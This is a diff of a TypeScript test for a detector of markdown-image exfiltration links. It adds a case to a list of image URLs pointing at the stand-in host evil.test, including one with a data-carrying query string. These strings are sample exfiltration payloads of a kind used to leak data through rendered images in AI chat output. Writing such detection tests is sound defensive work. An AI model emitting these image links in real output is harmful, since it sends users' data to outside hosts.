@@ -207,7 +207,7 @@ test('exfil links: destinations with balanced or escaped parentheses, titles too
   const d = createExfilLinksDetector({ id: 'e', allowedHosts: ['trusted.example'] });
   const spans = (t: string) => d.scan(t, ctx).map((f) => [t.slice(f.start, f.end), f.explanation.split(',')[0]]);
   // CommonMark renders each of these as an image of evil.test; none was found before.
-  for (const x of ['![x](https://evil.test/p(1).png?q=S)', '![x](https://evil.test/p((1)(2)).png)', '![x](https://evil.test/a\\(b.png)', `![x](https://evil.test/${'('.repeat(32)}a${')'.repeat(32)})`]) {
+  for (const x of ['![x](https://evil.test/p(1).png?q=S)', '![x](https://evil.test/p((1)(2)).png)', '![x](https://evil.test/a\\(b.png)', `![x](https://evil.test/${'('.repeat(32)}a${')'.repeat(32)})`, '![x](https://evil.test/p?q=<v>&d=S)']) {
     assert.deepEqual(spans(`see ${x} now`), [[x, 'markdown image']], x);
   }
   // Unbalanced, or nested deeper than renderers read: no image (nothing to find).
